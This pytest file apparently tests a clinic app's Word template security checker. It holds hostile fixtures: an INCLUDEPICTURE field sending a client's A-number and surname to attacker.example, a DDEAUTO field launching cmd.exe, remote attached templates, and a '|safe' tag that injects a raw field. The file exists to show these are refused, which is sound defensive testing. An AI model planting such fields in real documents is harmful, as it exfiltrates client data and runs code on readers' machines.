"""Templates cannot call home: no field but page numbers, no link out, no object, no macro."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.text.paragraph import Paragraph

from clinic_app.documents import inert
from clinic_app.documents.engine import PreparedTemplate, RenderError, TemplateProblem, read_text
from clinic_app.resources import resource_path
from tests.core.test_templates import values

ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
ATTACK_URL = "http://attacker.example/p.png?a={{ client.a_number }}&n={{ client.last_name }}"


def field(paragraph: Paragraph, *codes: str) -> None:
    """A Word field whose code is split over one run per piece (as Word saves it)."""
    begin, end = OxmlElement("w:fldChar"), OxmlElement("w:fldChar")
    begin.set(qn("w:fldCharType"), "begin")
    end.set(qn("w:fldCharType"), "end")
    paragraph.add_run()._r.append(begin)
    for code in codes:
        instr = OxmlElement("w:instrText")
        instr.set(qn("xml:space"), "preserve")
        instr.text = code
        paragraph.add_run()._r.append(instr)
    paragraph.add_run()._r.append(end)


def saved(document: object) -> bytes:
    out = io.BytesIO()
    document.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def template_with_field(*codes: str, where: str = "body") -> bytes:
    document = Document()
    document.add_paragraph("Dear {{ client.first_name }},")
    if where == "body":
        paragraph = document.add_paragraph("Photo: ")
    else:
        paragraph = document.sections[0].footer.paragraphs[0]
        paragraph.add_run("Page ")
    field(paragraph, *codes)
    return saved(document)


def refusal(data: bytes) -> str:
    with pytest.raises(TemplateProblem) as caught:
        PreparedTemplate(data, name="evil.docx").check()
    message = str(caught.value)
    assert message.startswith("evil.docx ") and "\n" not in message
    return message


def test_a_tag_inside_a_linked_picture_field_is_refused_naming_the_paragraph() -> None:
    """The reproduced attack: the A-number would be sent to a server when Word opens the draft."""
    message = refusal(template_with_field(f' INCLUDEPICTURE "{ATTACK_URL}" \\d '))
    assert "tag inside a Word field code" in message
    assert "body, paragraph 2 (“Photo:”)" in message


@pytest.mark.parametrize(
    "codes",
    [
        (' HYPERLINK "http://attacker.example/x" ',),
        (" INCLUDE", 'TEXT "\\\\\\\\server\\\\share\\\\a.docx" '),  # split across runs
        (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ',),
        (" MERGEFIELD client ",),
        ("",),  # a field whose name is computed from a nested field
    ],
)
def test_fields_other_than_page_numbers_are_refused(codes: tuple[str, ...]) -> None:
    message = refusal(template_with_field(*codes))
    assert "Word field" in message and "PAGE, NUMPAGES, SECTIONPAGES" in message
    assert "body, paragraph 2" in message and "nothing was written" in message


def test_a_simple_field_and_a_tag_inside_an_allowed_field_are_refused() -> None:
    document = Document()
    paragraph = document.add_paragraph("See ")
    simple = parse_xml(
        f'<w:fldSimple {nsdecls("w")} w:instr=" INCLUDETEXT &quot;http://attacker.example&quot; "/>'
    )
    paragraph._p.append(simple)
    assert "Word field INCLUDETEXT in the body, paragraph 1" in refusal(saved(document))
    message = refusal(template_with_field(" PAGE {{ client.a_number }} ", where="footer"))
    assert "tag inside a Word field code" in message and "page footer, paragraph 1" in message


def test_page_number_fields_are_allowed_and_kept() -> None:
    data = template_with_field(" PAGE ", where="footer")
    document = Document()
    document.add_paragraph("Dear {{ client.first_name }},")
    field(document.add_paragraph(), " NUMPAGES \\* MERGEFORMAT ")
    field(document.add_paragraph(), " SECTIONPAGES ")
    for template in (data, saved(document)):
        out = PreparedTemplate(template, name="ok.docx").render(values())
        assert "Dear " in read_text(out)[0]
        inert.check("out.docx", out)


def test_an_external_relationship_is_refused_naming_where_it_is_used() -> None:
    document = Document()
    document.add_paragraph("Intro")
    paragraph = document.add_paragraph("Our website ")
    rel_id = document.part.relate_to(
        "http://attacker.example/track", RT.HYPERLINK, is_external=True
    )
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rel_id)
    link.append(OxmlElement("w:r"))
    paragraph._p.append(link)
    message = refusal(saved(document))
    assert "http://attacker.example/track" in message
    assert "body, paragraph 2 (“Our website”)" in message


def test_an_attached_template_is_refused() -> None:
    document = Document()
    document.add_paragraph("Hello")
    settings_part = document.part._settings_part
    rel_id = settings_part.relate_to(
        "http://attacker.example/t.dotm", ATTACHED_TEMPLATE, is_external=True
    )
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), rel_id)
    settings_part.element.append(attached)
    assert "an attached template in the document settings" in refusal(saved(document))


@pytest.mark.parametrize(
    ("element", "expected"),
    [("w:altChunk", "an imported document (altChunk)"), ("w:object", "an embedded object (OLE)")],
)
def test_alt_chunks_and_ole_objects_are_refused(element: str, expected: str) -> None:
    document = Document()
    document.add_paragraph("First")
    paragraph = document.add_paragraph("Second")
    if element == "w:altChunk":
        document.element.body.insert(0, OxmlElement(element))
        where = "body"
    else:
        run = paragraph.add_run()
        run._r.append(OxmlElement(element))
        where = "body, paragraph 2 (“Second”)"
    assert f"{expected} in the {where}" in refusal(saved(document))


def with_member(data: bytes, name: str, blob: bytes, content_type: str | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if content_type and item.filename == "[Content_Types].xml":
                content = content.replace(
                    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"',
                    f'ContentType="{content_type}"'.encode(),
                )
            target.writestr(item, content)
        target.writestr(name, blob)
    return out.getvalue()


def test_macros_are_refused() -> None:
    plain = saved(Document())
    assert "macros (word/vbaProject.bin)" in refusal(
        with_member(plain, "word/vbaProject.bin", b"x")
    )
    docm = with_member(
        plain,
        "docProps/extra.xml",
        b"<a/>",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "macros or embedded objects" in refusal(docm)


def test_a_tag_that_writes_raw_word_xml_is_caught_in_the_filled_document() -> None:
    """The check after filling: `|safe` output is not escaped, so it could add a field."""
    tag = (
        '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE http://attacker.example/p"/>'
        "<w:r><w:t>'|safe }}"
    )
    document = Document()
    document.add_paragraph("Dear {{ client.first_name }},")
    document.add_paragraph(tag)
    template = PreparedTemplate(saved(document), name="sneaky.docx")
    template.check()
    with pytest.raises(RenderError) as caught:
        template.render(values())
    assert "Word field INCLUDEPICTURE in the body, paragraph 2" in caught.value.failure.message


@pytest.mark.parametrize(
    "path",
    sorted(resource_path("templates").glob("*/*.docx")),
    ids=lambda p: f"{p.parent.name}/{p.stem}",
)
def test_shipped_templates_and_what_they_fill_are_inert(path: Path) -> None:
    data = path.read_bytes()
    inert.check(path.name, data)
    # The terminated-grant letter is only made for a terminated grant (preconditions.toml).
    terminated = {"grant.state": "terminated", "grant.terminated_on": "September 15, 2026"}
    changes = terminated if path.stem == "client-grant-terminated" else {}
    filled = PreparedTemplate(data, name=path.name).render(values(path.parent.name, **changes))
    inert.check(path.name, filled)


def test_a_part_checked_before_is_not_trusted_once_its_content_changes() -> None:
    """Parts found inert are remembered by their content (a batch repeats the style parts); the
    same part with a refused field in it is still refused, after a clean one passed."""
    clean = template_with_field(" PAGE ", where="footer")
    inert.check("clean.docx", clean)
    inert.check("clean-again.docx", clean)  # remembered: nothing to refuse
    with zipfile.ZipFile(io.BytesIO(clean)) as archive:
        footer = next(n for n in archive.namelist() if n.startswith("word/footer"))
        blob = archive.read(footer).decode("utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(clean)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == footer:
                content = blob.replace(" PAGE ", ' INCLUDEPICTURE "http://x/" ').encode()
            target.writestr(item, content)
    evil = out.getvalue()
    with pytest.raises(inert.NotInert, match="page footer"):
        inert.check("evil.docx", evil)
